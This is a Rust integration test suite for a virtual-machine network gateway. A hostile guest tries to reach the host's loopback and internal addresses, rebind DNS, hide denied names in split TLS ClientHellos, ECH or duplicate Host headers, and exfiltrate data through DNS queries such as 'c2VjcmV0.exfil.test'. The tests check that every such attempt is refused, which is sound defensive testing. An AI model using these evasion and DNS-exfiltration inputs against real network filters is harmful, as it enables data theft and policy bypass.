//! The egress boundary against a hostile guest, one test per class of
//! defect (issue 11), with the servers' own records as ground truth: what
//! the policy refuses must never reach a server.

use std::net::TcpListener;
use std::time::Duration;

use kit::guest::{Daemon, Guest, GuestOpts, Netns, boot, line_after, ping_result};
use kit::{Recorder, hex, serve_recorder};
use vhost_gateway::sniff::tls::build_hello;

const GW_MAC: &str = "02:76:67:00:00:01";

/// Records connections on `addr` inside the daemon's namespace (the host).
fn on_host(ns: &Netns, addr: &str) -> Recorder {
    let addr = addr.to_owned();
    serve_recorder(ns.enter(move || TcpListener::bind(addr).unwrap()))
}

/// Records connections on `addr` on the internet side.
fn on_net(ns: &Netns, addr: &str) -> Recorder {
    let addr = addr.to_owned();
    serve_recorder(ns.net_enter(move || TcpListener::bind(addr).unwrap()))
}

/// The probe's `VG-SCRIPT` line after the `VG-CASE {case}` line.
fn script_result(console: &str, case: &str) -> String {
    let mut lines = console
        .lines()
        .skip_while(|l| l.trim() != format!("VG-CASE {case}"));
    lines
        .find(|l| l.contains("VG-SCRIPT"))
        .unwrap_or("")
        .to_owned()
}

fn connect_result(console: &str, addr: &str) -> String {
    line_after(console, &format!("VG-CONNECT {addr} "))
        .unwrap_or("")
        .to_owned()
}

/// Defects 1 and 2: the host's own addresses (live) and every IPv6 form
/// of an internal IPv4 address are refused, and DNS answers pointing at
/// them are stripped; the servers on them never see a connection.
#[test]
fn host_addresses_and_embedded_ipv4_are_refused_and_never_reached() {
    let ns = Netns::new("hostaddr");
    // Services bound to every address of the daemon's host.
    let host_v4 = on_host(&ns, "0.0.0.0:2222");
    let host_v6 = on_host(&ns, "[::]:2223");
    // Internal IPv4 in IPv6 clothing, each a real host here.
    let embedded = [
        "64:ff9b::a9fe:a9fe",
        "64:ff9b:1::a9fe:a9fe",
        "2002:a9fe:a9fe::1",
        "2001:0:c000:201::5601:5601",
        "::a9fe:a9fe",
    ];
    let mut recorders = Vec::new();
    for addr in embedded {
        ns.add_addr(&format!("{addr}/128"));
        recorders.push((addr, on_net(&ns, &format!("[{addr}]:7"))));
    }
    ns.add_addr("192.0.2.10/32");
    let public = on_net(&ns, "192.0.2.10:7");
    let _dnsmasq = crate::dns::dnsmasq_with(
        &ns,
        &[
            "--address=/hostaddr.test/198.51.100.2",
            "--address=/hostaddr6.test/2001:db8:ff::2",
            "--address=/nat64.test/64:ff9b::a00:1",
            "--address=/sixtofour.test/2002:7f00:1::1",
            "--address=/public.test/192.0.2.10",
        ],
    );
    let daemon = Daemon::start(&ns, Some("[dns]\nupstreams = [\"192.0.2.53\"]\n"));
    let script = r#"
dhcp
wait_v6
A6=$(ip -6 addr show dev eth0 scope global | awk '/inet6/ {print $2; exit}' | cut -d/ -f1)
vg-probe tcp-connect 192.0.2.10:7
vg-probe tcp-connect 198.51.100.2:2222
vg-probe tcp-connect [2001:db8:ff::2]:2223
vg-probe tcp-connect [64:ff9b::a9fe:a9fe]:7
vg-probe tcp-connect [64:ff9b:1::a9fe:a9fe]:7
vg-probe tcp-connect [2002:a9fe:a9fe::1]:7
vg-probe tcp-connect [2001:0:c000:201::5601:5601]:7
vg-probe raw-syn eth0 02:76:67:00:00:01 $A6 ::a9fe:a9fe 7
for n in hostaddr.test hostaddr6.test nat64.test sixtofour.test public.test; do
  echo "VG-DNS $n $(nslookup $n 2>&1 | grep -c 'Address: [0-9a-f:.]*$')"
done
echo VG-READY
sleep 3
vg-probe tcp-connect 203.0.113.77:2222
"#;
    let opts = GuestOpts::new(&daemon.socket, script);
    let guest = Guest::spawn(&opts, "VG-READY");
    assert!(
        guest.wait_marker(Duration::from_secs(120)),
        "{}",
        guest.console()
    );
    // An address the host gains while the guest runs is the host's too.
    kit::run(std::process::Command::new("ip").args([
        "-n",
        &ns.name,
        "addr",
        "add",
        "203.0.113.77/32",
        "dev",
        "lo",
    ]));
    let console = guest.finish();
    assert!(
        connect_result(&console, "192.0.2.10:7").contains("connected"),
        "{console}"
    );
    for addr in [
        "198.51.100.2:2222",
        "[2001:db8:ff::2]:2223",
        "[64:ff9b::a9fe:a9fe]:7",
        "[64:ff9b:1::a9fe:a9fe]:7",
        "[2002:a9fe:a9fe::1]:7",
        "[2001:0:c000:201::5601:5601]:7",
        "203.0.113.77:2222",
    ] {
        let line = connect_result(&console, addr);
        assert!(line.contains("result=refused"), "{addr}: {line}\n{console}");
    }
    assert_eq!(
        line_after(&console, "VG-RAW ::a9fe:a9fe:7"),
        Some("result=rst"),
        "{console}"
    );
    // Ground truth: nothing reached the host's services or the embedded
    // hosts; the public one did.
    assert_eq!(host_v4.connections() + host_v6.connections(), 0);
    for (addr, recorder) in &recorders {
        assert_eq!(recorder.connections(), 0, "{addr} was reached");
    }
    assert_eq!(public.connections(), 1);
    // Rebind protection strips what points at the host or an embedding.
    for name in [
        "hostaddr.test",
        "hostaddr6.test",
        "nat64.test",
        "sixtofour.test",
    ] {
        assert_eq!(
            line_after(&console, &format!("VG-DNS {name} ")),
            Some("0"),
            "{name}: {console}"
        );
    }
    assert_eq!(
        line_after(&console, "VG-DNS public.test "),
        Some("1"),
        "{console}"
    );
    let log = daemon.log();
    assert!(log.contains("rule=\"2\""), "host rule audited: {log}");
}

/// Defect 7: under `allow-all`, the host's loopback is still reachable
/// only through the gateway's address with `allow-host-loopback`; raw SYNs
/// to loopback and "this host" in every form get a RST and never arrive.
#[test]
fn allow_all_never_reaches_the_hosts_loopback() {
    let ns = Netns::new("loopback");
    let v4 = on_host(&ns, "0.0.0.0:9999");
    let v6 = on_host(&ns, "[::1]:9999");
    ns.add_addr("192.0.2.10/32");
    let public = on_net(&ns, "192.0.2.10:7");
    let daemon = Daemon::start(&ns, Some("[policy]\npreset = \"allow-all\"\n"));
    let script = format!(
        r#"
dhcp
wait_v6
A6=$(ip -6 addr show dev eth0 scope global | awk '/inet6/ {{print $2; exit}}' | cut -d/ -f1)
vg-probe raw-syn eth0 {GW_MAC} 198.19.0.2 192.0.2.10 7
for d in 127.0.0.1 127.1.2.3 0.0.0.0; do vg-probe raw-syn eth0 {GW_MAC} 198.19.0.2 $d 9999; done
for d in ::1 ::ffff:127.0.0.1 ::ffff:0.0.0.0 :: ::127.0.0.1 64:ff9b::7f00:1; do
  vg-probe raw-syn eth0 {GW_MAC} $A6 $d 9999
done
"#
    );
    let console = boot(&GuestOpts::new(&daemon.socket, &script));
    // The raw path works: a public host answers.
    assert_eq!(
        line_after(&console, "VG-RAW 192.0.2.10:7"),
        Some("result=synack"),
        "{console}"
    );
    for dst in [
        "127.0.0.1",
        "127.1.2.3",
        "0.0.0.0",
        "::1",
        "::ffff:127.0.0.1",
        "::ffff:0.0.0.0",
        "::",
        "::127.0.0.1",
        "64:ff9b::7f00:1",
    ] {
        // The probe prints addresses as Rust does (::127.0.0.1 is ::7f00:1).
        let shown: std::net::IpAddr = dst.parse().unwrap();
        assert_eq!(
            line_after(&console, &format!("VG-RAW {shown}:9999")),
            Some("result=rst"),
            "{dst}: {console}"
        );
    }
    assert_eq!(
        v4.connections() + v6.connections(),
        0,
        "the host's loopback was reached"
    );
    assert!(public.connections() <= 1);
}

/// Defects 3 and 4: a name hidden by framing — a ClientHello split over
/// records and segments, ECH, empty lines and lower-case methods, a second
/// request pipelined or kept alive, two Hosts — is decided like a shown
/// one or refused; the denied requests never reach the server. Both for
/// flows decided on their first bytes (no DNS answer) and for gated ones
/// (the address pinned by the guest's lookup).
#[test]
fn names_in_every_framing_are_decided_and_denied_ones_never_arrive() {
    let ns = Netns::new("framing");
    ns.add_addr("192.0.2.10/32");
    let http = on_net(&ns, "192.0.2.10:80");
    let tls = on_net(&ns, "192.0.2.10:443");
    let _dnsmasq = crate::dns::dnsmasq_with(&ns, &["--address=/www.ok.test/192.0.2.10"]);
    let config = r#"
[dns]
upstreams = ["192.0.2.53"]

[[policy.rule]]
action = "deny"
destination = "*.denied.test"
"#;
    let daemon = Daemon::start(&ns, Some(config));
    let get = |lead: &str, method: &str, host: &str| {
        format!("{lead}{method} / HTTP/1.1\r\nHost: {host}\r\n\r\n").into_bytes()
    };
    let hello = |sni: &str, record: usize| build_hello(Some(sni), &[], record);
    let ech = build_hello(Some("www.ok.test"), &[(0xfe0d, vec![0; 32])], 16_384);
    let split = hello("www.denied.test", 9);
    let (a, b) = split.split_at(split.len() / 2);
    let cases: Vec<(&str, &str, String)> = vec![
        ("ok", "80", hex(&get("", "GET", "www.ok.test"))),
        ("records", "443", hex(&hello("www.denied.test", 7))),
        ("bytes", "443", hex(&hello("www.denied.test", 1))),
        ("segments", "443", format!("{},{}", hex(a), hex(b))),
        ("ech", "443", hex(&ech)),
        (
            "crlf",
            "80",
            hex(&get("\r\n\r\n", "get", "www.denied.test")),
        ),
        (
            "lf",
            "80",
            hex(b"\nGET / HTTP/1.1\nHost: www.denied.test\n\n"),
        ),
        (
            "pipelined",
            "80",
            hex(&[
                get("", "GET", "www.ok.test"),
                get("", "GET", "www.denied.test"),
            ]
            .concat()),
        ),
        (
            "keepalive",
            "80",
            format!(
                "{},{}",
                hex(&get("", "GET", "www.ok.test")),
                hex(&get("", "POST", "www.denied.test"))
            ),
        ),
        (
            "twohosts",
            "80",
            hex(b"GET / HTTP/1.1\r\nHost: www.ok.test\r\nHost: www.denied.test\r\n\r\n"),
        ),
    ];
    let mut script = String::from("dhcp\n");
    for phase in ["unpinned", "pinned"] {
        if phase == "pinned" {
            script.push_str("nslookup www.ok.test >/dev/null\n");
        }
        for (tag, port, bytes) in &cases {
            script.push_str(&format!(
                "echo VG-CASE {phase}-{tag}; vg-probe tcp-script 192.0.2.10:{port} {bytes}\n"
            ));
        }
    }
    let console = boot(&GuestOpts::new(&daemon.socket, &script));
    let result = |case: &str| script_result(&console, case);
    for phase in ["unpinned", "pinned"] {
        let ok = result(&format!("{phase}-ok"));
        assert!(ok.contains("200 OK"), "{phase}: {ok}\n{console}");
        for tag in [
            "records",
            "bytes",
            "segments",
            "ech",
            "crlf",
            "lf",
            "pipelined",
            "twohosts",
        ] {
            let line = result(&format!("{phase}-{tag}"));
            assert!(
                line.contains("result=reset") || line.contains("result=closed"),
                "{phase}-{tag}: {line}\n{console}"
            );
            assert!(!line.contains("200 OK"), "{phase}-{tag} was served: {line}");
        }
        // The first request of a kept-alive connection is served; the
        // second, denied, ends it.
        let keep = result(&format!("{phase}-keepalive"));
        assert!(
            keep.contains("200 OK") && keep.contains("result=reset"),
            "{keep}\n{console}"
        );
    }
    // Ground truth: no denied name reached either server, in any framing.
    let received = http.all();
    assert!(!received.contains("denied"), "{received}\n{}", daemon.log());
    assert!(received.contains("www.ok.test"), "{received}");
    let hellos = tls.all();
    assert!(
        !hellos.contains("denied") && !hellos.contains("www.ok.test"),
        "{hellos}"
    );
    let log = daemon.log();
    assert!(
        log.contains("name-unreadable"),
        "ECH and two Hosts are unreadable: {log}"
    );
}

/// Defects 5 and 6: an exempt name reached through a CNAME from a public
/// one gets nothing internal; under a default-deny allow-list, names no
/// rule allows are answered locally, any type, and never reach the
/// upstream (its own log says so).
#[test]
fn rebind_exemptions_need_the_chain_and_unlisted_names_never_leave() {
    let ns = Netns::new("dnsleak");
    let log = kit::TempDir::new("dnsmasq-log");
    let queries = log.0.join("queries.log");
    let log_arg = format!("--log-facility={}", queries.display());
    let _dnsmasq = crate::dns::dnsmasq_with(
        &ns,
        &[
            "--log-queries",
            &log_arg,
            "--host-record=intranet.allowed.test,10.0.0.1",
            "--cname=evil.allowed.test,intranet.allowed.test",
            "--address=/www.allowed.test/192.0.2.10",
        ],
    );
    let config = r#"
[dns]
upstreams = ["192.0.2.53"]
rebind-allow = ["intranet.allowed.test"]

[policy]
preset = "none"

[[policy.rule]]
action = "allow"
destination = "*.allowed.test"
"#;
    let daemon = Daemon::start(&ns, Some(config));
    let script = r#"
dhcp
echo VG-Q-intranet; nslookup intranet.allowed.test
echo VG-Q-evil; nslookup evil.allowed.test
echo VG-Q-www; nslookup www.allowed.test
vg-probe dns 198.19.0.1:53 c2VjcmV0.exfil.test udp
vg-probe dns 198.19.0.1:53 c2VjcmV0.exfil.test tcp
vg-probe dns 192.0.2.53:53 bW9yZQ.exfil.test udp
echo VG-Q-ptr; nslookup 192.0.2.10
echo VG-END
"#;
    let console = boot(&GuestOpts::new(&daemon.socket, script));
    let section = |from: &str| {
        console
            .split(from)
            .nth(1)
            .and_then(|r| r.split("VG-").next())
            .unwrap_or("")
            .to_owned()
    };
    assert!(section("VG-Q-intranet").contains("10.0.0.1"), "{console}");
    assert!(!section("VG-Q-evil").contains("10.0.0.1"), "{console}");
    assert!(section("VG-Q-www").contains("192.0.2.10"), "{console}");
    let dns: Vec<&str> = console.lines().filter(|l| l.contains("VG-DNS ")).collect();
    assert_eq!(dns.len(), 3, "{console}");
    for line in &dns {
        assert!(
            line.contains("rcode=3"),
            "answered as blocked: {line}\n{console}"
        );
    }
    // The upstream saw the allowed names and nothing else.
    std::thread::sleep(Duration::from_millis(300));
    let seen = std::fs::read_to_string(&queries).unwrap_or_default();
    assert!(seen.contains("www.allowed.test"), "{seen}");
    assert!(
        !seen.contains("exfil"),
        "a name no rule allows left: {seen}"
    );
    assert!(!seen.contains("in-addr.arpa"), "{seen}");
}

/// Defect 8: an address shared by an allowed name and a second name the
/// guest resolved later is still allowed for the allowed name.
#[test]
fn a_second_name_on_a_shared_address_does_not_take_the_first_down() {
    let ns = Netns::new("shared");
    ns.add_addr("192.0.2.10/32");
    let http = on_net(&ns, "192.0.2.10:80");
    let _dnsmasq = crate::dns::dnsmasq_with(
        &ns,
        &[
            "--address=/www.allowed.test/192.0.2.10",
            "--address=/www.other.test/192.0.2.10",
        ],
    );
    let config = r#"
[dns]
upstreams = ["192.0.2.53"]

[policy]
preset = "none"

[[policy.rule]]
action = "allow"
destination = "*.allowed.test"

[[policy.rule]]
action = "allow"
destination = "www.other.test"
protocols = ["tcp"]
ports = [443]
"#;
    let daemon = Daemon::start(&ns, Some(config));
    let allowed = hex(b"GET / HTTP/1.1\r\nHost: www.allowed.test\r\n\r\n");
    let other = hex(b"GET / HTTP/1.1\r\nHost: www.other.test\r\n\r\n");
    let script = format!(
        r#"
dhcp
nslookup www.allowed.test >/dev/null
nslookup www.other.test >/dev/null
echo VG-CASE allowed; vg-probe tcp-script 192.0.2.10:80 {allowed}
echo VG-CASE other; vg-probe tcp-script 192.0.2.10:80 {other}
sleep 1
echo VG-CASE again; vg-probe tcp-script 192.0.2.10:80 {allowed}
"#
    );
    let console = boot(&GuestOpts::new(&daemon.socket, &script));
    let result = |case: &str| script_result(&console, case);
    assert!(result("allowed").contains("200 OK"), "{console}");
    assert!(result("again").contains("200 OK"), "{console}");
    assert!(!result("other").contains("200 OK"), "{console}");
    let received = http.all();
    assert!(!received.contains("www.other.test"), "{received}");
    drop(daemon);
}

/// Defect 9: the guest's IPv6 default router (fe80::1, the RA's source)
/// answers echo and neighbor probes, so a long run of pings to an outside
/// IPv6 host never finds the network unreachable.
#[test]
fn the_ipv6_default_router_answers_for_a_long_run() {
    let ns = Netns::new("router6");
    ns.add_addr("2001:db8::10/128");
    ns.allow_ping_sockets();
    let daemon = Daemon::start(&ns, None);
    let script = r#"
dhcp
wait_v6
echo VG-PING-ROUTER; ping6 -c 3 -W 2 fe80::1%eth0
echo VG-PING-LONG; ping6 -c 40 -i 0.3 -W 2 2001:db8::10
echo VG-NEIGH; ip -6 neigh show dev eth0
echo VG-END
"#;
    let console = boot(&GuestOpts::new(&daemon.socket, script));
    assert_eq!(
        ping_result(&console, "VG-PING-ROUTER"),
        Some((3, 3)),
        "{console}"
    );
    let (sent, got) = ping_result(&console, "VG-PING-LONG").unwrap_or((0, 0));
    assert_eq!(sent, 40, "{console}");
    assert!(got >= 38, "{got}/40: {console}");
    assert!(!console.contains("Network is unreachable"), "{console}");
    let neigh = console
        .split("VG-NEIGH")
        .nth(1)
        .and_then(|r| r.split("VG-END").next())
        .unwrap_or("");
    assert!(!neigh.contains("FAILED"), "{neigh}");
}
